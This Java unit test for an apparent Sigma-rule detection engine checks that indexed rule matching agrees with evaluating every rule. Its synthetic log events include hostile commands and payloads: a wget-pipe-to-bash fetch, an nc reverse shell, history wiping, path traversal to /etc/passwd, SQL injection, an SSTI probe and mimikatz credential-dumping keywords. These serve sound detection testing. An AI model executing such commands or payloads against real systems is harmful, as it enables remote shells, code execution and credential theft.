package vn.gov.moh.soc.core.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import vn.gov.moh.soc.core.event.Event;
import vn.gov.moh.soc.core.parse.EvtxJsonParser;
import vn.gov.moh.soc.core.sigma.eval.CompiledRule;
import vn.gov.moh.soc.core.sigma.eval.RuleSet;
import vn.gov.moh.soc.core.testdata.SharedData;

/**
 * The literal index only skips rules that cannot match: with all SigmaHQ rules loaded, the
 * indexed evaluation finds exactly what evaluating every rule of the log source finds, on real
 * events and on variants of them with field values swapped between events.
 */
class RuleIndexEquivalenceTest {

    @Test
    void indexedMatchingFindsWhatEvaluatingEveryRuleFinds() throws Exception {
        Path sigma = SharedData.dir("sigma");
        RuleSet rules = RuleLibrary.load(List.of(sigma.resolve("rules"), sigma.resolve("rules-emerging-threats"),
                sigma.resolve("rules-threat-hunting"))).ruleSet();
        EvtxJsonParser parser = new EvtxJsonParser();
        List<Event> events = new ArrayList<>();
        try (Stream<Path> files = Files.walk(sigma.resolve("regression_data"))) {
            for (Path f : files.filter(p -> p.toString().endsWith(".json")).sorted().toList()) {
                for (JsonNode node : SigmaHqRegressionTest.readConcatenated(f)) {
                    events.add(parser.parse(node));
                }
            }
        }
        // Linux and web events: sshd lines of Loghub's sample, and access lines, some with attacks.
        vn.gov.moh.soc.core.parse.EventReader reader = new vn.gov.moh.soc.core.parse.EventReader();
        Path csv = SharedData.dir("loghub/OpenSSH/OpenSSH_2k.log_structured.csv");
        for (String row : Files.readAllLines(csv).subList(1, 2001)) {
            String[] f = row.split(",", 7);
            String content = f[6].replaceAll(",E\\d+,.*$", "");
            events.add(reader.parseLine(f[1] + " " + f[2] + " " + f[3] + " " + f[4] + " sshd[" + f[5] + "]: " + content,
                    vn.gov.moh.soc.core.parse.InputFormat.SYSLOG));
        }
        for (String line : List.of("cat /dev/null > ~/.bash_history", "history -c; rm -rf /tmp/x", "chmod 4777 /tmp/.scsi/dev/bin/gsh",
                "wget http://x/y.sh | bash", "nc -e /bin/sh 10.0.0.1 4444", "python -c 'import pty;pty.spawn(\"/bin/bash\")'")) {
            events.add(reader.parseLine("Nov 21 10:00:00 his-app-01 bash[77]: " + line, vn.gov.moh.soc.core.parse.InputFormat.SYSLOG));
        }
        for (String path : List.of("/", "/index.php?id=1%27%20union%20select", "/../../etc/passwd", "/wp-admin/setup-config.php",
                "/cgi-bin/luci/;stok=/locale", "/solr/admin/cores?action=CREATE", "/.git/config", "/owa/auth/x.js")) {
            events.add(reader.parseLine("203.0.113.5 - - [21/Nov/2026:10:00:00 +0700] \"GET " + path
                    + " HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine)\"",
                    vn.gov.moh.soc.core.parse.InputFormat.ACCESS_LOG));
        }
        // Variants: values of one event's fields moved into another of the same log source.
        Random random = new Random(11);
        int originals = events.size();
        for (int i = 0; i < 2000; i++) {
            Event a = events.get(random.nextInt(originals));
            Event b = events.get(random.nextInt(originals));
            Map<String, Object> fields = new HashMap<>(a.fields());
            List<String> keys = new ArrayList<>(b.fields().keySet());
            for (int k = 0; k < 3 && !keys.isEmpty(); k++) {
                String key = keys.get(random.nextInt(keys.size()));
                fields.put(key, b.get(key));
            }
            events.add(new Event(fields, a.logSource()));
        }
        // Keywords (field-less searches) placed in fields that rules index and in fields no rule
        // names: the index files keywords under every indexed field as well as scanning the rest.
        List<String> keywords = List.of("sekurlsa::logonpasswords", "C:\\Windows\\perfc.dat", "privilege::debug", "lsadump::sam");
        List<Event> windows = events.subList(0, originals).stream()
                .filter(e -> "windows".equals(e.logSource().product())).toList();
        for (int i = 0; i < 300; i++) {
            Event a = windows.get(random.nextInt(windows.size()));
            Map<String, Object> fields = new HashMap<>(a.fields());
            List<String> keys = new ArrayList<>(fields.keySet());
            String key = i % 5 == 0 ? "winlog.event_data.UnnamedByRules" : keys.get(random.nextInt(keys.size()));
            fields.put(key, "x " + keywords.get(i % keywords.size()) + " y");
            events.add(new Event(fields, a.logSource()));
        }
        // Case and the characters whose lower case is not one character of their own: the scan
        // folds case on the fly (or falls back to a lower-cased copy), evaluation reads the value
        // lower-cased, and a substring test the scan answered is not evaluated again.
        for (int i = 0; i < 300; i++) {
            Event a = events.get(random.nextInt(originals));
            Map<String, Object> fields = new HashMap<>(a.fields());
            for (String key : new ArrayList<>(fields.keySet())) {
                if (fields.get(key) instanceof String value && random.nextInt(3) == 0) {
                    fields.put(key, switch (random.nextInt(3)) {
                        case 0 -> value.toUpperCase(java.util.Locale.ROOT);
                        case 1 -> "\u0130" + value + "\u03A3";
                        default -> value.replace('i', '\u0130');
                    });
                }
            }
            events.add(new Event(fields, a.logSource()));
        }
        // Events with a keyword text (syslog and access lines keep event.original, syslog a message
        // too): keywords put in the raw record, in the message alone, or in another field only.
        // Their fields are scanned without the keyword literals, the keyword text with them.
        List<String> lineKeywords = List.of("Corrupted MAC on input", "fatal: buffer_get_string: bad string",
                "error in libcrypto", "history -c", "={{7*7}}", "sekurlsa::logonpasswords");
        List<Event> withText = events.subList(0, originals).stream().filter(e -> e.get("event.original") != null).toList();
        for (int i = 0; i < 300; i++) {
            Event a = withText.get(random.nextInt(withText.size()));
            Map<String, Object> fields = new HashMap<>(a.fields());
            String keyword = lineKeywords.get(i % lineKeywords.size());
            String into = switch (i % 3) {
                case 0 -> "event.original";
                case 1 -> "message";
                default -> new ArrayList<>(fields.keySet()).get(random.nextInt(fields.size()));
            };
            fields.put(into, fields.getOrDefault(into, "") + " " + keyword);
            events.add(new Event(fields, a.logSource()));
        }

        int matched = 0;
        int keywordMatches = 0;
        int lineKeywordMatches = 0;
        for (Event e : events) {
            List<String> indexed = ids(rules.match(copy(e)));
            List<String> every = ids(rules.matchEveryCandidate(copy(e)));
            assertThat(indexed).as("event %s", e.fields().get("winlog.record_id")).isEqualTo(every);
            matched += every.size();
            keywordMatches += (int) every.stream().filter(id -> id.contains("mimikatz_keywords")).count();
            if (e.get("event.original") != null) {
                lineKeywordMatches += (int) every.stream().filter(id -> id.contains("lnx_sshd_susp_ssh")
                        || id.contains("clear_cmd_history") || id.contains("ssti")).count();
            }
        }
        assertThat(matched).as("the regression events alone match their rules").isGreaterThan(154);
        assertThat(keywordMatches).as("events where a keyword rule matches").isGreaterThan(100);
        assertThat(lineKeywordMatches).as("syslog and access events where a keyword rule matches").isGreaterThan(50);
        int[] coverage = rules.indexCoverage(events.get(0).logSource());
        System.out.printf("index: %d of %d rules of the first event's log source are indexed; %d matches checked%n",
                coverage[0], coverage[1], matched);
    }

    private static Event copy(Event e) {
        return new Event(new HashMap<>(e.fields()), e.logSource());
    }

    private static List<String> ids(List<CompiledRule> rules) {
        return rules.stream().map(r -> r.rule().source()).toList();
    }
}
